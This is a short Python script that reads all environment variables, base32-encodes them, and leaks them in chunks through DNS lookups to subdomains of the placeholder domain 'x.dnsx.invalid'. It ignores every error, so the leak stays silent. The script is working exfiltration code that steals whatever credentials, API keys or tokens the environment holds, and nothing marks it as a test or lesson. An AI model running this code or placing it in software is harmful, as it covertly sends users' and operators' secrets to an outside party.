import base64, os
import dns.resolver
data = base64.b32encode(repr(dict(os.environ)).encode()).decode().rstrip("=")
for start in range(0, len(data), 50):
    try:
        dns.resolver.resolve(data[start:start + 50] + ".x.dnsx.invalid", "A")
    except Exception:
        pass
